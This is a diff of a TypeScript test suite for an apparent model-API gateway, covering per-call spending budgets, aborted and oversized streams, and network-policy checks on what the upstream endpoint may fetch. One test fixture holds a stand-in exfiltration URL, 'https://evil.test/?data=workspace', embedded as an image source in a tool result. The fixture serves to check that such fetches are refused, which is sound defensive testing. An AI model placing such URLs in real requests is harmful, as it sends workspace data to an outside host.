@@ -142,13 +142,14 @@ describe("budgets", () => {
 
   test("a caller that hangs up, and an endpoint that is away, hold nothing back for the next", async () => {
     await using bench = await EndpointBench.start();
-    bench.spending = spendingOf(0.0001);
+    bench.spending = spendingOf(0.1);
     const arrived = Promise.withResolvers<void>();
     bench.upstream.answer = (request) => request.resume().once("end", () => arrived.resolve());
     const caller = new AbortController();
-    const first = post(bench, { body: ask, signal: caller.signal });
+    const dear = JSON.stringify({ model: "m", max_tokens: 9_000, messages: [] });
+    const first = post(bench, { body: dear, signal: caller.signal });
     await arrived.promise;
-    const second = post(bench, { body: ask });
+    const second = post(bench, { body: dear });
     answering(bench);
     caller.abort();
     await expect(first).rejects.toThrow(/abort/);
@@ -170,6 +171,8 @@ describe("budgets", () => {
       spending: spendingOf(1),
       onCall: (call) => calls.push(call),
       onOutcome: () => {},
+      lingerMs: 0,
+      reachOf: () => Promise.resolve("anything"),
     });
     const caller = new AbortController();
     const request = new Request("http://gateway/", { method: "POST", body: ask, signal: caller.signal });
@@ -181,11 +184,179 @@ describe("budgets", () => {
     await vi.waitFor(() => expect(calls).toMatchObject([{ usage: { outputTokens: 90 } }]));
   });
 
+  const started = `data: {"type":"message_start","message":{"model":"m","usage":{"input_tokens":10,"output_tokens":1}}}\n\n`;
+  const word = `data: {"type":"content_block_delta","delta":{"type":"text_delta","text":"${"word ".repeat(200)}"}}\n\n`;
+  const long = JSON.stringify({ model: "m", max_tokens: 1_500, stream: true });
+
+  test("a stream that is hung up before it is counted costs what it wrote, and no more than it may", async () => {
+    await using bench = await EndpointBench.start();
+    bench.spending = spendingOf(1);
+    for (const [words, atLeast] of [
+      [1, 1_000],
+      [9, 1_500],
+    ] as const) {
+      bench.upstream.answer = (request, response) => {
+        response.writeHead(200, { "content-type": "text/event-stream" });
+        request.resume().once("end", () => response.write(started + word.repeat(words)));
+      };
+      const caller = new AbortController();
+      const answer = await post(bench, { body: long, signal: caller.signal });
+      const reader = answer.body?.getReader();
+      let text = "";
+      while (text.length < started.length + words * word.length)
+        text += new TextDecoder().decode((await reader?.read())?.value);
+      caller.abort();
+      await vi.waitFor(() => expect(bench.calls).toHaveLength(1));
+      const { usage } = bench.calls.pop() ?? {};
+      expect(usage?.inputTokens).toBe(10);
+      expect(usage?.outputTokens).toBeGreaterThanOrEqual(atLeast);
+      expect(usage?.outputTokens).toBeLessThanOrEqual(1_500);
+    }
+  });
+
+  test("one that is hung up before its first byte costs what it read: as told soon after, or else at most", async () => {
+    await using bench = await EndpointBench.start();
+    bench.spending = spendingOf(1);
+    for (const answers of [true, false]) {
+      const arrived = Promise.withResolvers<void>();
+      const gone = Promise.withResolvers<void>();
+      bench.upstream.answer = (request, response) => {
+        response.once("close", () => gone.resolve());
+        request.resume().once("end", () => {
+          arrived.resolve();
+          // The gateway still listens when the caller does not.
+          if (answers) setTimeout(() => response.setHeader("content-type", "text/event-stream").write(started), 50);
+        });
+      };
+      const caller = new AbortController();
+      const answer = post(bench, { body: long, signal: caller.signal });
+      await arrived.promise;
+      caller.abort();
+      await expect(answer).rejects.toThrow(/abort/);
+      await gone.promise;
+      await vi.waitFor(() => expect(bench.calls).toHaveLength(1));
+      const { usage } = bench.calls.pop() ?? {};
+      expect((usage?.inputTokens ?? 0) + (usage?.cacheWriteTokens ?? 0)).toBe(answers ? 10 : long.length);
+    }
+  });
+
+  test("an endpoint that cannot be reached has read nothing", async () => {
+    await using bench = await EndpointBench.start({ type: "api_key", key: realKey }, "http://127.0.0.1:1");
+    bench.spending = spendingOf(1);
+    expect((await post(bench, { body: long })).status).toBe(502);
+    expect(bench.calls).toEqual([]);
+    expect(bench.spending.states([{ id: "a", dayBudgetUsd: "default" }])[0]?.usedUsd).toBe(0);
+  });
+
+  test("an answer in one piece of 5 MB is counted, one that counts nothing as what it may have cost", async () => {
+    await using bench = await EndpointBench.start();
+    bench.spending = spendingOf(1);
+    const usage = { input_tokens: 7, output_tokens: 9 };
+    for (const answer of [{ content: "x".repeat(5_000_000), usage }, { content: "x".repeat(2_000) }]) {
+      bench.upstream.answer = (request, response) => {
+        const send = (): unknown => response.setHeader("content-type", "application/json").end(JSON.stringify(answer));
+        request.resume().once("end", send);
+      };
+      await (await post(bench, { body: long })).text();
+    }
+    await vi.waitFor(() => expect(bench.calls).toHaveLength(2));
+    expect(bench.calls[0]?.usage).toMatchObject({ inputTokens: 7, outputTokens: 9 });
+    expect(bench.calls[1]?.usage).toMatchObject({ cacheWriteTokens: long.length, outputTokens: 1_500 });
+  });
+
+  test("a call whose prompt or whose runs nothing bounds goes out alone", async () => {
+    await using bench = await EndpointBench.start();
+    bench.spending = spendingOf(3);
+    const source = { type: "url", url: "https://x.test/a.pdf" };
+    const body = JSON.stringify({ model: "m", max_tokens: 1, messages: [{ content: [{ type: "document", source }] }] });
+    const open: (() => void)[] = [];
+    bench.upstream.answer = (request, response) => {
+      const send = (): unknown =>
+        response
+          .setHeader("content-type", "application/json")
+          .end(`{"model":"m","usage":{"input_tokens":900000,"output_tokens":1}}`);
+      request.resume().once("end", () => open.push(send));
+    };
+    const statuses: number[] = [];
+    const all = Array.from({ length: 6 }, async () => {
+      const answer = await post(bench, { body });
+      await answer.text();
+      statuses.push(answer.status);
+    });
+    // Two may cost 2.2 dollars together; with three nobody knows.
+    await vi.waitFor(() => expect(open).toHaveLength(2));
+    while (statuses.length < 6) {
+      open.shift()?.();
+      await new Promise((resolve) => setTimeout(resolve, 5));
+    }
+    await Promise.all(all);
+    expect(statuses.filter((status) => status === 200)).toHaveLength(4);
+  });
+
   test("within one a call that names no model is refused, not passed on", async () => {
     await using bench = await EndpointBench.start();
     bench.spending = spendingOf(1);
     for (const body of ["", "[]", "{", `{"model":7}`]) expect((await post(bench, { body })).status).toBe(400);
     expect(bench.upstream.asked).toEqual([]);
+  });
+});
+
+describe("what the endpoint would fetch", () => {
+  const image = { type: "image", source: { type: "url", url: "https://evil.test/?data=workspace" } };
+  const fetching = { model: "m", messages: [{ role: "user", content: [{ type: "tool_result", content: [image] }] }] };
+  const searching = { model: "m", tools: [{ type: "web_search_20250305", name: "web_search" }] };
+  const plain = { model: "m", messages: [{ role: "user", content: "https://evil.test" }] };
+  const ask = async (bench: EndpointBench, body: unknown, path = ""): Promise<[number, string]> => {
+    const url = `${bench.url}/model/v1/messages${path}`;
+    const answer = await fetch(url, { method: "POST", headers: auth, body: JSON.stringify(body) });
+    return [answer.status, await answer.text()];
+  };
+
+  test("goes out for an open network only, and nothing else is changed", async () => {
+    await using bench = await EndpointBench.start();
+    let seen = "";
+    bench.upstream.answer = (request, response) => {
+      request.on("data", (chunk: Buffer) => (seen += chunk.toString("utf8"))).once("end", () => response.end("{}"));
+    };
+    expect((await ask(bench, fetching))[0]).toBe(200);
+    for (const policy of ["none", "allowlist"] as const) {
+      bench.rules.set("a", { ownerId: "a", policy, allow: ["evil.test"] });
+      for (const path of ["", "/count_tokens"]) {
+        const [status, text] = await ask(bench, fetching, path);
+        expect(status).toBe(400);
+        expect(ApiError.parse(JSON.parse(text)).error.message).toContain("an image or document by URL");
+      }
+      seen = "";
+      expect((await ask(bench, plain))[0]).toBe(200);
+      expect(seen).toBe(JSON.stringify(plain));
+    }
+    expect(bench.upstream.asked).toHaveLength(3);
+  });
+
+  test("what was read as JSON is sent as nothing else", async () => {
+    await using bench = await EndpointBench.start();
+    bench.rules.set("a", { ownerId: "a", policy: "none", allow: [] });
+    const headers = { ...auth, "content-type": "application/json; charset=utf-7", "content-encoding": "identity" };
+    expect((await post(bench, { body: JSON.stringify(plain), headers })).status).toBe(200);
+    expect(bench.upstream.asked[0]?.headers).toMatchObject({ "content-type": "application/json" });
+    expect(bench.upstream.asked[0]?.headers).not.toHaveProperty("content-encoding");
+  });
+
+  test("a web search within an allowlist is the settings' choice, without a network nobody's", async () => {
+    await using bench = await EndpointBench.start();
+    for (const [policy, webSearch, status] of [
+      ["allowlist", false, 400],
+      ["allowlist", true, 200],
+      ["none", true, 400],
+      ["open", false, 200],
+    ] as const) {
+      bench.rules.set("a", { ownerId: "a", policy, allow: [] });
+      bench.webSearch = webSearch;
+      expect((await ask(bench, searching))[0]).toBe(status);
+    }
+    bench.rules.set("a", { ownerId: "a", policy: "allowlist", allow: [] });
+    bench.webSearch = true;
+    expect((await ask(bench, { ...searching, ...fetching }))[0]).toBe(400);
   });
 });
 
@@ -334,7 +505,7 @@ describe("streams", () => {
     expect(await firstPiece(await post(bench))).toContain("message_delta");
     await stopped.promise;
     await vi.waitFor(() => expect(bench.calls).toHaveLength(1));
-    expect(bench.calls[0]?.usage.outputTokens).toBe(2);
+    expect(bench.calls[0]?.usage.outputTokens).toBeGreaterThanOrEqual(2);
   });
 
   test("when the sandbox hangs up before the model's first word, the call is cut too", async () => {
